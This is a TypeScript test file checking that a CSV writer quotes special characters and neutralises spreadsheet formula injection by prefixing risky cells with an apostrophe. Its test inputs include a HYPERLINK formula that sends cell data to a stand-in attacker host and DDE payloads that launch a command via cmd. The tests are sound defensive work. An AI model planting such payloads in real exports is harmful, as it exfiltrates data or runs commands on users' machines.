import { expect, test } from 'vitest';
import { readCsv } from '#tests/support/spreadsheet.ts';
import { csvLine } from './csv.ts';

test('cells with commas, quotes and line ends are read back as they were', () => {
  const cells = ['Åke', 'Lind, Ella', 'Ella "Elle"', 'one\r\ntwo', '', ' '];
  expect(csvLine(cells)).toBe('Åke,"Lind, Ella","Ella ""Elle""","one\r\ntwo",, \r\n');
  expect(readCsv(csvLine(cells) + csvLine(['']))).toEqual([cells, ['']]);
});

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  '+46 70 123 45 67',
  '-2+3',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
])('no spreadsheet reckons with %j', (text) => {
  const [[cell] = []] = readCsv(csvLine([text]));
  expect(cell).toBe(`'${text}`);
});

test('nor where it takes a semicolon for the end of a cell', () => {
  const [[cell] = []] = readCsv(csvLine(["Ella;=cmd|' /C calc'!A0; +1;;-1"]));
  expect(cell).toBe("Ella;'=cmd|' /C calc'!A0; '+1;;'-1");
});

test('what is no formula stays as it is', () => {
  for (const text of [
    '070-123 45 67',
    '1+1',
    "O'Hara",
    '(08) 123',
    'a=b',
    'a; b',
    'kom 10:00 → 10:05; gick -',
  ]) {
    expect(csvLine([text])).toBe(`${text}\r\n`);
  }
});
